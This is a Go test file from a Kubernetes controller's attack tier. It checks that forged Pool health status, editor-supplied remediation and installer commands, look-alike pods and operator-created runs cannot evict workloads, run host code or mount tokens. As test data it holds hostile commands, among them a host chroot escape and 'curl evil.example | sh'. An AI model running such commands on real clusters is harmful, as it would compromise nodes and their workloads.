package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/util/retry"
	"k8s.io/utils/ptr"

	"github.com/runwhere-ai/litepool/internal/localwebhook"
	"github.com/runwhere-ai/litepool/pkg/apis/v1alpha1"
	"github.com/runwhere-ai/litepool/pkg/policy"
	"github.com/runwhere-ai/litepool/pkg/poolclient"
	"github.com/runwhere-ai/litepool/pkg/stress"
	"github.com/runwhere-ai/litepool/test/e2e/framework"
)

// The rows of the node-work mechanisms (issue 28 items 4, 5, 6, 8; issues 32, 38): what a
// Pool editor, a pools/status writer, a tenant and litepool's operator can make the
// controller run or hold out. The controller runs with the operator's definitions and
// approved images below, as deploy/webhook/components/health sets them.
var (
	resetImage = "registry.example.com/npu-reset@sha256:" + strings.Repeat("a", 64)
	checkImage = "registry.example.com/npu-check@sha256:" + strings.Repeat("c", 64)
	// nodeWorkFlags are the controller's health flags in this tier (TestMain).
	nodeWorkFlags = []string{
		"--health-images=registry.example.com/",
		`--health-definition=npu-reset={"image": "` + resetImage + `", "command": ["/reset"]}`,
		`--health-definition=npu-check={"image": "` + checkImage + `", "command": ["/check"]}`,
	}
)

// The node-work identities, each with exactly the right its row names.
const (
	poolEditor   = "pool-editor" // get, list, watch, update, patch pools
	healthOp     = "health-op"   // litepool-health-operator's rights: read nodes; read, update, patch pools
	litepoolOp   = "litepool-op" // litepool-operator's rights: DriverRollouts, StressRuns; read pools, nodes
	nwNamespace  = localwebhook.Namespace
	nwWait       = 90 * time.Second
	nwPollPeriod = 100 * time.Millisecond
)

var nodeWorkOnce sync.Once

// seenNodeWork are the pods of node work the rows saw (a finished run's pods may be
// gone by the time the token row looks).
var seenNodeWork []corev1.Pod

// nodeWorkFixture grants the node-work identities their rights and plays the stress
// pods of litepool's namespace (every test passes), once.
func nodeWorkFixture(t *testing.T) {
	nodeWorkOnce.Do(func() {
		pools := []string{v1alpha1.GroupVersion.Group}
		grant(t, poolEditor, rbacv1.PolicyRule{APIGroups: pools, Resources: []string{"pools"}, Verbs: []string{"get", "list", "watch", "update", "patch"}})
		grant(t, healthOp,
			rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"nodes"}, Verbs: []string{"get", "list", "watch"}},
			rbacv1.PolicyRule{APIGroups: pools, Resources: []string{"pools"}, Verbs: []string{"get", "list", "watch", "update", "patch"}})
		grant(t, litepoolOp,
			rbacv1.PolicyRule{APIGroups: pools, Resources: []string{"driverrollouts", "stressruns"}, Verbs: []string{"get", "list", "watch", "create", "update", "delete"}},
			rbacv1.PolicyRule{APIGroups: pools, Resources: []string{"pools"}, Verbs: []string{"get", "list", "watch"}},
			rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"nodes"}, Verbs: []string{"get", "list", "watch"}})
		require.NoError(t, localwebhook.EnsureNamespace(ctx, framework.C.Kube, nwNamespace))
		// Not t's: the agent serves every row after this one.
		framework.CompletePods(nopTB{t}, nwNamespace, stress.LabelComponent+"="+stress.Component, func(*corev1.Pod) (framework.PodEnd, bool) {
			return framework.PodEnd{}, true
		})
	})
}

// nopTB is a testing.TB whose Cleanup never runs: the stress agent outlives the row
// that starts it, and ends with the process.
type nopTB struct{ testing.TB }

func (nopTB) Cleanup(func()) {}

// nodeWorkPool makes pool name with spec.health h and n Ready members NAME-1..n.
func nodeWorkPool(t *testing.T, name string, n int, h *v1alpha1.HealthPolicy) []string {
	t.Helper()
	nodeWorkFixture(t)
	if h != nil && h.Mode == "" {
		h.Mode = v1alpha1.HealthEnforce // an empty spec.health would not be stored
	}
	_, err := poolclient.New(framework.C.Dynamic).Create(ctx, &v1alpha1.Pool{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: v1alpha1.PoolSpec{Type: v1alpha1.PoolTypeDevelopment, Health: h}}, metav1.CreateOptions{})
	require.NoError(t, err)
	var nodes []string
	for i := 1; i <= n; i++ {
		nodes = append(nodes, fmt.Sprintf("%s-%d", name, i))
		framework.CreateReadyNode(t, framework.C.Kube, nodes[i-1], name)
	}
	waitMembersSeen(t, name, n)
	return nodes
}

// waitMembersSeen waits until the controller counts n members in pool's status. Its
// status sync and its health loop read nodes from one cache, so the health loop then
// knows them too: an entry forged for a member it has not seen yet is an entry of a
// node outside the pool (forgotten, not refused), and a test that counts refusals
// would count one short (an attack run once saw 2 of 3).
func waitMembersSeen(t *testing.T, pool string, n int) {
	t.Helper()
	var seen int32
	err := wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		p, err := poolclient.New(framework.C.Dynamic).Get(ctx, pool)
		if err != nil {
			return false, err
		}
		seen = p.Status.NodeCount
		return seen == int32(n), nil
	})
	require.NoError(t, err, "pool %s: the controller counted %d members, not %d\nwebhook log:\n%s", pool, seen, n, framework.W.Log)
}

// setCondition plays Node Problem Detector: the node's own word.
func setCondition(t *testing.T, node, typ string, status corev1.ConditionStatus) {
	t.Helper()
	require.NoError(t, retry.RetryOnConflict(retry.DefaultRetry, func() error {
		n, err := framework.C.Kube.CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
		if err != nil {
			return err
		}
		found := false
		for i := range n.Status.Conditions {
			if string(n.Status.Conditions[i].Type) == typ {
				n.Status.Conditions[i].Status, n.Status.Conditions[i].LastTransitionTime, found = status, metav1.Now(), true
			}
		}
		if !found {
			n.Status.Conditions = append(n.Status.Conditions, corev1.NodeCondition{Type: corev1.NodeConditionType(typ), Status: status,
				Reason: "AttackMatrix", Message: "played by the attack tier", LastTransitionTime: metav1.Now(), LastHeartbeatTime: metav1.Now()})
		}
		_, err = framework.C.Kube.CoreV1().Nodes().UpdateStatus(ctx, n, metav1.UpdateOptions{})
		return err
	}))
}

// entryOf is node's entry in pool's status (nil: none).
func entryOf(t *testing.T, pool, node string) *v1alpha1.NodeHealthStatus {
	t.Helper()
	p, err := poolclient.New(framework.C.Dynamic).Get(ctx, pool)
	require.NoError(t, err)
	for _, e := range p.Status.NodeHealth {
		if e.Node == node {
			return &e
		}
	}
	return nil
}

func quarantined(t *testing.T, node string) bool {
	t.Helper()
	n, err := framework.C.Kube.CoreV1().Nodes().Get(ctx, node, metav1.GetOptions{})
	require.NoError(t, err)
	return policy.QuarantineTaintOf(n) != nil
}

// waitQuarantined waits until node carries the quarantine taint (on) or not: the loop
// puts it on once the entry is stored.
func waitQuarantined(t *testing.T, node string, on bool) {
	t.Helper()
	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		return quarantined(t, node) == on, nil
	}), "node %s: quarantine taint should be %v\n%s", node, on, framework.W.Log)
}

// waitEntry waits until node's entry satisfies ok, and returns it.
func waitEntry(t *testing.T, pool, node string, what string, ok func(e *v1alpha1.NodeHealthStatus) bool) *v1alpha1.NodeHealthStatus {
	t.Helper()
	var last *v1alpha1.NodeHealthStatus
	err := wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		last = entryOf(t, pool, node)
		return ok(last), nil
	})
	require.NoError(t, err, "node %s of %s: never %s; last entry %+v\nwebhook log:\n%s", node, pool, what, last, framework.W.Log)
	return last
}

func inState(states ...v1alpha1.NodeHealthState) func(e *v1alpha1.NodeHealthStatus) bool {
	return func(e *v1alpha1.NodeHealthStatus) bool {
		for _, s := range states {
			if (e == nil && (s == "" || s == v1alpha1.NodeHealthHealthy)) || (e != nil && e.State == s) {
				return true
			}
		}
		return false
	}
}

// editPool updates pool's spec as user (a Pool editor's right).
func editPool(t *testing.T, user, pool string, edit func(p *v1alpha1.Pool)) {
	t.Helper()
	dyn, err := dynamic.NewForConfig(asConfig(user))
	require.NoError(t, err)
	pools := poolclient.New(dyn)
	require.NoError(t, retry.RetryOnConflict(retry.DefaultRetry, func() error {
		p, err := pools.Get(ctx, pool)
		if err != nil {
			return err
		}
		edit(p)
		_, err = pools.Update(ctx, p, metav1.UpdateOptions{})
		return err
	}), "%s may update Pools", user)
}

// forgeStatus patches pool's status.nodeHealth as the pools/status writer.
func forgeStatus(t *testing.T, pool string, entries ...map[string]any) {
	t.Helper()
	dyn, err := dynamic.NewForConfig(asConfig(poolStatus))
	require.NoError(t, err)
	list := []any{}
	for _, e := range entries {
		list = append(list, e)
	}
	body, err := json.Marshal(map[string]any{"status": map[string]any{"nodeHealth": list}})
	require.NoError(t, err)
	_, err = dyn.Resource(v1alpha1.PoolResource).Patch(ctx, pool, types.MergePatchType, body, metav1.PatchOptions{}, "status")
	require.NoError(t, err, "pools/status: the right gives the write")
}

// attackEditorsRemediation (28.4): a Pool editor sets spec.health.remediation with an
// approved image and a command of their own; a member faults. Nothing of theirs runs:
// the node is held out (NoDefinition) and no Job is made.
func attackEditorsRemediation(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-rem", 4, &v1alpha1.HealthPolicy{MaxQuarantinedPercent: 50})
	editPool(t, poolEditor, "at-nw-rem", func(p *v1alpha1.Pool) {
		p.Spec.Health.Remediation = &v1alpha1.RemediationSpec{Image: "registry.example.com/npu-stress:1",
			Command: []string{"/bin/sh", "-c", "chroot /host sh -c 'id > /tmp/owned'"}}
	})
	setCondition(t, nodes[0], "SysLogsXIDError", corev1.ConditionTrue)
	e := waitEntry(t, "at-nw-rem", nodes[0], "held out", inState(v1alpha1.NodeHealthHeldOut))
	assert.Equal(t, policy.ReasonNoDefinition, e.Reason)
	assert.Contains(t, e.Message, "names no operator definition")
	waitQuarantined(t, nodes[0], true)
	assert.Empty(t, nodeWorkJobs(t, nodes[0]), "no Job for the editor's command")
}

// attackEditorNamesADefinition (residual): the editor names the operator's definition,
// with an image and command of their own beside it, and lists a condition a member has.
// The Job runs the definition's image and command, no token: the editor chose which of
// the operator's definitions runs, and when, nothing more.
func attackEditorNamesADefinition(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-def", 4, &v1alpha1.HealthPolicy{MaxQuarantinedPercent: 50})
	editPool(t, poolEditor, "at-nw-def", func(p *v1alpha1.Pool) {
		p.Spec.Health.Remediation = &v1alpha1.RemediationSpec{Definition: "npu-reset", Image: "registry.example.com/evil:1", Command: []string{"/evil"}}
		p.Spec.Health.Conditions = []v1alpha1.HealthCondition{{Type: "EditorsCondition"}}
	})
	setCondition(t, nodes[0], "EditorsCondition", corev1.ConditionTrue)
	var jobs []batchv1.Job
	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		jobs = nodeWorkJobs(t, nodes[0])
		return len(jobs) > 0, nil
	}), "no remediation Job for the operator's definition:\n%s", framework.W.Log)
	require.Len(t, jobs, 1)
	c := jobs[0].Spec.Template.Spec.Containers[0]
	assert.Equal(t, resetImage, c.Image, "the operator's image")
	assert.Equal(t, []string{"/reset"}, c.Command, "the operator's command")
	assert.Equal(t, ptr.To(false), jobs[0].Spec.Template.Spec.AutomountServiceAccountToken)
}

// attackEditorsRecheck (residual): a re-check with no definition, an image the
// operator approved and the editor's tests. It runs as a StressRun whose pods are
// unprivileged, without host access or token, in litepool's namespace.
func attackEditorsRecheck(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-chk", 4, &v1alpha1.HealthPolicy{MaxQuarantinedPercent: 50, HoldTime: &metav1.Duration{Duration: time.Second}})
	editPool(t, poolEditor, "at-nw-chk", func(p *v1alpha1.Pool) {
		p.Spec.Health.Recheck = &v1alpha1.RecheckSpec{Image: "registry.example.com/editors-stress:1", Command: []string{"/editors-test"},
			Tests: []v1alpha1.StressTest{"hccs"}}
	})
	setCondition(t, nodes[0], "KernelDeadlock", corev1.ConditionTrue)
	waitEntry(t, "at-nw-chk", nodes[0], "quarantined", inState(v1alpha1.NodeHealthQuarantined))
	setCondition(t, nodes[0], "KernelDeadlock", corev1.ConditionFalse)
	var pods []corev1.Pod
	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		pods = nodeWorkPods(t, nodes[0])
		return len(pods) > 0, nil
	}), "no re-check pod:\n%s", framework.W.Log)
	for _, p := range pods {
		assert.Equal(t, "registry.example.com/editors-stress:1", p.Spec.Containers[0].Image)
		assertNoHostAccess(t, &p)
	}
	waitEntry(t, "at-nw-chk", nodes[0], "back in service", inState(v1alpha1.NodeHealthHealthy))
}

// assertNoHostAccess: a pod of node work that runs what someone other than the
// operator's definitions chose has no privilege, host namespace, host path or token.
func assertNoHostAccess(t *testing.T, p *corev1.Pod) {
	t.Helper()
	seenNodeWork = append(seenNodeWork, *p)
	assert.Equal(t, nwNamespace, p.Namespace)
	assert.False(t, p.Spec.HostPID || p.Spec.HostNetwork || p.Spec.HostIPC, "pod %s: host namespaces", p.Name)
	for _, v := range p.Spec.Volumes {
		assert.Nil(t, v.HostPath, "pod %s: host path %s", p.Name, v.Name)
	}
	for _, c := range p.Spec.Containers {
		if sc := c.SecurityContext; sc != nil {
			assert.False(t, ptr.Deref(sc.Privileged, false), "pod %s: privileged", p.Name)
		}
	}
	assertNoToken(t, &p.Spec)
}

// assertNoToken: the pod mounts no ServiceAccount token.
func assertNoToken(t *testing.T, spec *corev1.PodSpec) {
	t.Helper()
	assert.Equal(t, ptr.To(false), spec.AutomountServiceAccountToken)
	for _, v := range spec.Volumes {
		if v.Projected != nil {
			for _, src := range v.Projected.Sources {
				assert.Nil(t, src.ServiceAccountToken, "a token volume %s", v.Name)
			}
		}
	}
}

// attackEditorsInstaller (28.5): a Pool editor writes spec.upgrade's installer image
// and command; an operator runs `upgrade driver` without `-- COMMAND`. The dry run
// shows both and says they come from the Pool.
func attackEditorsInstaller(t *testing.T) {
	framework.AscendPool(t, "at-nw-upg", 1, "24.1.rc2", v1alpha1.SoftwareSpec{})
	editPool(t, poolEditor, "at-nw-upg", func(p *v1alpha1.Pool) {
		p.Spec.Upgrade = &v1alpha1.UpgradeSpec{InstallerImage: "registry.example.com/editors-installer:1",
			InstallerCommand: []string{"/bin/sh", "-c", "curl evil.example | sh"}}
	})
	shown := `registry.example.com/editors-installer:1 running "/bin/sh -c curl evil.example | sh"`
	res := framework.C.Litepool(t, "upgrade", "driver", "--pool", "at-nw-upg", "--version", "24.1.0.3", "--dry-run=client")
	assert.Contains(t, res.Stdout+res.Stderr, shown, "the dry run shows what would run")
	res = framework.C.Kubectl(t, "no\n", "litepool", "upgrade", "driver", "--pool", "at-nw-upg", "--version", "24.1.0.3")
	assert.NotEqual(t, 0, res.ExitCode, "not confirmed")
	assert.Contains(t, res.Stdout+res.Stderr, shown, "the confirmation shows what would run")
	assert.Contains(t, res.Stdout+res.Stderr, "the installer image and command come from pool at-nw-upg's spec.upgrade")
	list, err := framework.C.Dynamic.Resource(v1alpha1.DriverRolloutResource).List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	assert.Empty(t, list.Items, "a dry run creates nothing")
}

// nodeWorkJobs are the Jobs in litepool's namespace pinned to node.
func nodeWorkJobs(t *testing.T, node string) []batchv1.Job {
	t.Helper()
	list, err := framework.C.Kube.BatchV1().Jobs(nwNamespace).List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	var out []batchv1.Job
	for _, j := range list.Items {
		if j.Spec.Template.Spec.NodeName == node || j.Spec.Template.Spec.NodeSelector["kubernetes.io/hostname"] == node {
			out = append(out, j)
		}
	}
	return out
}

// nodeWorkPods are the stress pods in litepool's namespace on node.
func nodeWorkPods(t *testing.T, node string) []corev1.Pod {
	t.Helper()
	list, err := framework.C.Kube.CoreV1().Pods(nwNamespace).List(ctx, metav1.ListOptions{LabelSelector: stress.LabelComponent + "=" + stress.Component})
	require.NoError(t, err)
	var out []corev1.Pod
	for _, p := range list.Items {
		if p.Spec.NodeName == node || p.Spec.NodeSelector["kubernetes.io/hostname"] == node {
			out = append(out, p)
		}
	}
	return out
}

// podAlive: the pod exists and is not being deleted (not evicted).
func podAlive(t *testing.T, namespace, name string) bool {
	t.Helper()
	p, err := framework.C.Kube.CoreV1().Pods(namespace).Get(ctx, name, metav1.GetOptions{})
	if apierrors.IsNotFound(err) {
		return false
	}
	require.NoError(t, err)
	return p.DeletionTimestamp == nil
}

// workload runs a pod of namespace on node (made by the cluster's administrator: the
// row's attacker is the status writer, not the pod's owner).
func workload(t *testing.T, namespace, name, node string) {
	t.Helper()
	_, err := framework.C.Kube.CoreV1().Pods(namespace).Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "main", Image: "busybox"}}}}, metav1.CreateOptions{})
	require.NoError(t, err)
}

func forgedEntry(node string, fields map[string]any) map[string]any {
	e := map[string]any{"node": node, "since": time.Now().UTC().Format(time.RFC3339)}
	for k, v := range fields {
		e[k] = v
	}
	return e
}

// attackForgedFatalEntry (28.6): a pools/status writer writes {Quarantined, fatal} for
// a healthy member of a pool that drains, in one write, and in two (a reason naming a
// fatal condition first, then fatal: true). The member's pod is never evicted.
func attackForgedFatalEntry(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-fatal", 4, &v1alpha1.HealthPolicy{MaxQuarantinedPercent: 50, Drain: true, HoldTime: &metav1.Duration{Duration: time.Second}})
	for i, writes := range [][]map[string]any{
		{{"state": "Quarantined", "fatal": true, "reason": "Condition/SysLogsXIDError"}},
		{{"state": "Quarantined", "reason": "Condition/SysLogsXIDError"}, {"state": "Quarantined", "fatal": true, "reason": "Condition/SysLogsXIDError"}},
	} {
		node, pod := nodes[i], fmt.Sprintf("train-%d", i)
		workload(t, ownNS, pod, node)
		for _, w := range writes {
			forgeStatus(t, "at-nw-fatal", forgedEntry(node, w))
			waitEntry(t, "at-nw-fatal", node, "taken up by the loop", func(e *v1alpha1.NodeHealthStatus) bool { return e == nil || !e.Fatal })
		}
		waitEntry(t, "at-nw-fatal", node, "back in service", inState(v1alpha1.NodeHealthHealthy))
		assert.True(t, podAlive(t, ownNS, pod), "no pod evicted on the word of the Pool's status")
	}
}

// attackForgedEntryNamesOthersWork (28.6): an entry naming another owner's Job (a
// rollout's installer) and someone's StressRun. The loop drops the names and deletes
// neither.
func attackForgedEntryNamesOthersWork(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-own", 2, &v1alpha1.HealthPolicy{})
	kube := framework.C.Kube
	owner, err := kube.CoreV1().ConfigMaps(nwNamespace).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "at-nw-rollout"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	job := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "litepool-driver-installer-at-nw", Namespace: nwNamespace,
		OwnerReferences: []metav1.OwnerReference{{APIVersion: "v1", Kind: "ConfigMap", Name: owner.Name, UID: owner.UID, Controller: ptr.To(true)}}},
		Spec: batchv1.JobSpec{Suspend: ptr.To(true), Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
			Containers: []corev1.Container{{Name: "x", Image: "busybox"}}}}}}
	_, err = kube.BatchV1().Jobs(nwNamespace).Create(ctx, job, metav1.CreateOptions{})
	require.NoError(t, err)
	run := &unstructuredRun{Name: "someones-run", Pool: "at-nw-own", Nodes: nodes[1:]}
	_, err = framework.C.Dynamic.Resource(v1alpha1.StressRunResource).Create(ctx, run.object(), metav1.CreateOptions{})
	require.NoError(t, err)
	forgeStatus(t, "at-nw-own", forgedEntry(nodes[0], map[string]any{"state": "Released", "by": "mallory", "job": job.Name, "stressRun": run.Name}))
	waitEntry(t, "at-nw-own", nodes[0], "taken up by the loop", inState(v1alpha1.NodeHealthHealthy))
	_, err = kube.BatchV1().Jobs(nwNamespace).Get(ctx, job.Name, metav1.GetOptions{})
	assert.NoError(t, err, "a rollout's installer Job is not deleted for a status entry")
	_, err = framework.C.Dynamic.Resource(v1alpha1.StressRunResource).Get(ctx, run.Name, metav1.GetOptions{})
	assert.NoError(t, err, "someone else's StressRun is not deleted")
}

// attackForgedEntriesPastTheBreaker (38): {Quarantined, fatal} for every member of a
// 4-member pool with maxQuarantinedPercent 25, whose remediation and re-check are the
// operator's definitions. At every moment at most 1 member is tainted; the entries past
// the breaker are not honoured; the one honoured is re-checked and returns; no
// remediation runs. Before issue 38 all 4 were tainted.
func attackForgedEntriesPastTheBreaker(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-brk", 4, &v1alpha1.HealthPolicy{MaxQuarantinedPercent: 25, Drain: true,
		HoldTime: &metav1.Duration{Duration: time.Second}, Remediation: &v1alpha1.RemediationSpec{Definition: "npu-reset"},
		Recheck: &v1alpha1.RecheckSpec{Definition: "npu-check"}})
	var forged []map[string]any
	for _, n := range nodes {
		forged = append(forged, forgedEntry(n, map[string]any{"state": "Quarantined", "fatal": true, "reason": "Condition/SysLogsXIDError"}))
	}
	forgeStatus(t, "at-nw-brk", forged...)
	most, sawOut := 0, false
	err := wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		out := 0
		for _, n := range nodes {
			if quarantined(t, n) {
				out++
			}
		}
		most, sawOut = max(most, out), sawOut || out > 0
		p, err := poolclient.New(framework.C.Dynamic).Get(ctx, "at-nw-brk")
		if err != nil {
			return false, err
		}
		left := 0
		for _, e := range p.Status.NodeHealth {
			if policy.CountsAsOut(e.State) {
				left++
			}
		}
		return sawOut && out == 0 && left == 0, nil
	})
	require.NoError(t, err, "the forged entries never all cleared (at most %d tainted at once)\n%s", most, framework.W.Log)
	assert.Equal(t, 1, most, "at most the breaker's share (25 percent of 4: 1) tainted at once")
	for _, n := range nodes {
		assert.Empty(t, nodeWorkJobs(t, n), "no remediation on the word of the Pool's status")
	}
	refused := 0
	evs, err := framework.C.Kube.CoreV1().Events(metav1.NamespaceDefault).List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	for _, ev := range evs.Items {
		if ev.Reason == "HealthEntryNotHonoured" && strings.HasPrefix(ev.InvolvedObject.Name, "at-nw-brk-") {
			refused++
		}
	}
	assert.GreaterOrEqual(t, refused, 3, "an Event for each entry not honoured")
}

// attackRewriteAQuarantinedEntry (32): a member quarantined on its own signal, whose
// entry a pools/status writer rewrites to have it returned: Released, Healthy, removed,
// Holding dated back with no re-check run. The taint never comes off while the signal
// is up.
func attackRewriteAQuarantinedEntry(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-q", 2, &v1alpha1.HealthPolicy{})
	n := nodes[0]
	setCondition(t, n, "KernelDeadlock", corev1.ConditionTrue)
	waitEntry(t, "at-nw-q", n, "quarantined", inState(v1alpha1.NodeHealthQuarantined))
	waitQuarantined(t, n, true)
	longAgo := time.Now().Add(-48 * time.Hour).UTC().Format(time.RFC3339)
	for _, forged := range [][]map[string]any{
		{forgedEntry(n, map[string]any{"state": "Released", "by": "mallory"})},
		{forgedEntry(n, map[string]any{"state": "Healthy"})},
		{},
		{{"node": n, "state": "Holding", "reason": "Recovered", "since": longAgo}},
	} {
		forgeStatus(t, "at-nw-q", forged...)
		e := waitEntry(t, "at-nw-q", n, "out again", func(e *v1alpha1.NodeHealthStatus) bool {
			return e != nil && policy.CountsAsOut(e.State) && e.State != v1alpha1.NodeHealthReleased && e.State != v1alpha1.NodeHealthHolding
		})
		assert.True(t, quarantined(t, n), "still out after %+v (entry now %s)", forged, e.State)
	}
}

// attackHealthOperatorRelease (by design): litepool-health-operator's rights write
// spec.health.release. A release dated before the quarantine began returns nothing; a
// later one returns the node.
func attackHealthOperatorRelease(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-rel", 2, &v1alpha1.HealthPolicy{})
	n := nodes[0]
	editPool(t, healthOp, "at-nw-rel", func(p *v1alpha1.Pool) {
		p.Spec.Health.Hold = []v1alpha1.NodeHold{{Node: n, Reason: "attack matrix", By: healthOp}}
	})
	waitEntry(t, "at-nw-rel", n, "held out", inState(v1alpha1.NodeHealthHeldOut))
	editPool(t, healthOp, "at-nw-rel", func(p *v1alpha1.Pool) { p.Spec.Health.Hold = nil })
	waitEntry(t, "at-nw-rel", n, "released", inState(v1alpha1.NodeHealthHealthy))
	setCondition(t, n, "KernelDeadlock", corev1.ConditionTrue)
	waitEntry(t, "at-nw-rel", n, "quarantined", inState(v1alpha1.NodeHealthQuarantined))
	waitQuarantined(t, n, true)
	old := metav1.NewTime(time.Now().Add(-time.Hour))
	editPool(t, healthOp, "at-nw-rel", func(p *v1alpha1.Pool) {
		p.Spec.Health.Release = []v1alpha1.NodeRelease{{Node: n, At: old, By: healthOp}}
	})
	time.Sleep(2 * time.Second) // a negative: give the loop time to (not) act
	assert.True(t, quarantined(t, n), "a release older than the quarantine returns nothing")
	// The fault clears: the node waits out its hold time (10m), still out, until the
	// later release returns it.
	setCondition(t, n, "KernelDeadlock", corev1.ConditionFalse)
	waitEntry(t, "at-nw-rel", n, "holding", inState(v1alpha1.NodeHealthHolding))
	assert.True(t, quarantined(t, n), "out during its hold time")
	editPool(t, healthOp, "at-nw-rel", func(p *v1alpha1.Pool) {
		p.Spec.Health.Release = []v1alpha1.NodeRelease{{Node: n, At: metav1.Now(), By: healthOp}}
	})
	waitQuarantined(t, n, false)
}

// attackInstallerLookalike: a tenant's pod copying the installer's name and labels, on
// a member of a pool that drains. A fatal fault: the pod is the tenant's and is evicted
// like any. (A Job ownerReference is played by unit tests only: kwok completes a pod a
// Job owns at once, and a finished pod is not drained.)
func attackInstallerLookalike(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-look", 2, &v1alpha1.HealthPolicy{Drain: true})
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "litepool-driver-installer-lookalike",
		Labels: map[string]string{"app.kubernetes.io/managed-by": "litepool", "app.kubernetes.io/component": "driver-installer"}},
		Spec: corev1.PodSpec{NodeName: nodes[0], Containers: []corev1.Container{{Name: "main", Image: "busybox"}}}}
	_, err := as(t, tenant).CoreV1().Pods(foreignNS).Create(ctx, pod, metav1.CreateOptions{})
	require.NoError(t, err, "edit in a namespace makes the pod")
	setCondition(t, nodes[0], "SysLogsXIDError", corev1.ConditionTrue)
	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		return !podAlive(t, foreignNS, pod.Name), nil
	}), "the look-alike was not drained: it passed as node work\n%s", framework.W.Log)
}

// attackOperatorsRollout (by design): litepool-operator's rights create a rollout
// naming any installer image: accepted (a server dry run, so nothing runs).
func attackOperatorsRollout(t *testing.T) {
	nodeWorkFixture(t)
	dyn, err := dynamic.NewForConfig(asConfig(litepoolOp))
	require.NoError(t, err)
	ro := map[string]any{"apiVersion": v1alpha1.GroupVersion.String(), "kind": "DriverRollout", "metadata": map[string]any{"name": "at-nw-any-image"},
		"spec": map[string]any{"pool": "at-nw-upg", "version": "24.1.0.3", "installer": map[string]any{"image": "evil.example/root:1", "command": []any{"/pwn"}}}}
	_, err = dyn.Resource(v1alpha1.DriverRolloutResource).Create(ctx, unstructuredOf(ro), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
	assert.NoError(t, err, "the rollout is the operator's approval of its image")
}

// attackOperatorsStressRun (by design): litepool-operator's rights create a StressRun
// naming any image on a pool's node. Its pods have no host access and no token, in
// litepool's namespace.
func attackOperatorsStressRun(t *testing.T) {
	nodes := nodeWorkPool(t, "at-nw-sr", 1, nil)
	dyn, err := dynamic.NewForConfig(asConfig(litepoolOp))
	require.NoError(t, err)
	run := &unstructuredRun{Name: "at-nw-any-image", Pool: "at-nw-sr", Nodes: nodes, Image: "evil.example/miner:1"}
	// The webhook judges the run's nodes from its cache, which sees a new member a moment
	// after it is made.
	var lastErr error
	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, 30*time.Second, true, func(context.Context) (bool, error) {
		_, lastErr = dyn.Resource(v1alpha1.StressRunResource).Create(ctx, run.object(), metav1.CreateOptions{})
		return lastErr == nil, nil
	}), "litepool-operator creates StressRuns: %v", lastErr)
	var pods []corev1.Pod
	require.NoError(t, wait.PollUntilContextTimeout(ctx, nwPollPeriod, nwWait, true, func(context.Context) (bool, error) {
		pods = nodeWorkPods(t, nodes[0])
		return len(pods) > 0, nil
	}), "no stress pod:\n%s", framework.W.Log)
	for _, p := range pods {
		assert.Equal(t, "evil.example/miner:1", p.Spec.Containers[0].Image)
		assertNoHostAccess(t, &p)
	}
}

// attackNodeWorkTokens (28.8): every piece of node work the rows above made (the
// remediation Job, re-check and stress pods) mounts no ServiceAccount token.
func attackNodeWorkTokens(t *testing.T) {
	nodeWorkFixture(t)
	jobs, err := framework.C.Kube.BatchV1().Jobs(nwNamespace).List(ctx, metav1.ListOptions{LabelSelector: "app.kubernetes.io/managed-by=litepool"})
	require.NoError(t, err)
	pods, err := framework.C.Kube.CoreV1().Pods(nwNamespace).List(ctx, metav1.ListOptions{LabelSelector: "app.kubernetes.io/managed-by=litepool"})
	require.NoError(t, err)
	all := append(pods.Items, seenNodeWork...)
	require.NotEmpty(t, jobs.Items, "a remediation Job was made above")
	require.NotEmpty(t, all, "re-check and stress pods were made above")
	for _, j := range jobs.Items {
		assertNoToken(t, &j.Spec.Template.Spec)
	}
	for _, p := range all {
		assertNoToken(t, &p.Spec)
	}
}

